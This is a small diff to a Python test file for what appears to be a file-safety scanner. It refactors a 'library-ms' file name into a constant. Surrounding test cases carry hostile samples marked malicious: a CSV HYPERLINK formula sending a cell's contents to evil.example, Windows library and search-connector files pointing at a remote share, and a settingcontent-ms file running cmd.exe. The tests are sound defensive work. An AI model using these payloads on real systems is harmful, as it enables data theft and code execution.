@@ -14,6 +14,7 @@ from tests.fuzz import fuzzed
 
 from .containers import EICAR, damaged, judged, places, unknowns
 
+LIBRARY = "library-ms"
 HOST = "203.0.113.9"
 CMD = r"C:\Windows\System32\cmd.exe"
 POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
@@ -218,7 +219,7 @@ BAD: dict[str, tuple[str, str, Verdict]] = {
         'a,b\r\nx,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\r\n',
         Verdict.SUSPICIOUS,
     ),
-    "a library": ("a.library-ms", library(f"\\\\{HOST}\\share"), Verdict.MALICIOUS),
+    "a library": (f"a.{LIBRARY}", library(f"\\\\{HOST}\\share"), Verdict.MALICIOUS),
     "a search": ("a.searchConnector-ms", library(f"\\\\{HOST}@80\\share"), Verdict.MALICIOUS),
     "a setting": ("a.settingcontent-ms", setting("%windir%\\system32\\cmd.exe /c calc.exe"), Verdict.MALICIOUS),
     "a Java program": (
@@ -302,7 +303,7 @@ GOOD: dict[str, tuple[str, str]] = {
     "a table": ("a.csv", 'name,x\r\nfoo,-5\r\nbar,=SUM(A1:A3)\r\nx,"a|b!c"\r\n- Sale | Buy now!,1\r\n'),
     "links in a table": ("b.csv", 'a,b\r\nx,"=HYPERLINK(""https://example.com/1"",""one"")"\r\n'),
     "an old table": ("a.slk", 'ID;PWXL;N;E\r\nC;Y1;X1;K"Name"\r\nC;Y2;X1;K5;ESUM(R1C1:R1C2)\r\nE\r\n'),
-    "a library": ("a.library-ms", library("knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}")),
+    "a library": (f"a.{LIBRARY}", library("knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}")),
     "a setting": ("a.settingcontent-ms", setting("%windir%\\system32\\control.exe /name Microsoft.Display")),
     "a Java program": (
         "a.jnlp",
